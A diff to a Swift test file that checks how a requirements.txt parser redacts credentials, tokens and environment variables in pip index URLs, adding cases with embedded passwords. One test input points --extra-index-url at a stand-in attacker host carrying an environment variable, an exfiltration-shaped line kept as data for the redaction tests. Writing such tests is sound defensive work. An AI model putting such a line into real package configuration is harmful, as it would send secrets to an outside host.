@@ -40,7 +40,7 @@ struct StrangersLinesTests {
     }
 
     @Test(
-        "no variable of this machine, no path and no file of it is asked about; what is left out is told without its secrets",
+        "no variable of this machine, no path, no file of it and nobody's password is asked about; what is left out is told without its secrets",
         arguments: [
             ("--extra-index-url https://evil.example/${PIP_INDEX_URL}/simple", "--extra-index-url https://***"),
             ("--index-url https://user:${TOKEN}@host/simple", "--index-url https://***@host/simple"),
@@ -49,6 +49,10 @@ struct StrangersLinesTests {
             ("-r https://host/more.txt", "--requirement https://host/more.txt"), ("x @ https://host/${TOKEN}/x-1-py3-none-any.whl", "x"),
             ("x @ file:///tmp/x-1-py3-none-any.whl", "x"), ("-e git+https://me:secret@host/o/r", "git+https://***@host/o/r"),
             ("x==${VERSION}", "requirements.txt:1"),
+            ("--extra-index-url https://me:secret@host/simple", "--extra-index-url https://***@host/simple"),
+            ("--index-url https://me:s^cret@host/simple", "--index-url https://***@host/simple"),
+            ("x @ https://me:secret@host/x-1-py3-none-any.whl", "x"),
+            ("-f https://host/wheels?token=secret", "--find-links https://host/wheels?***"),
         ]
     )
     func leftOut(line: String, told: String) async throws {
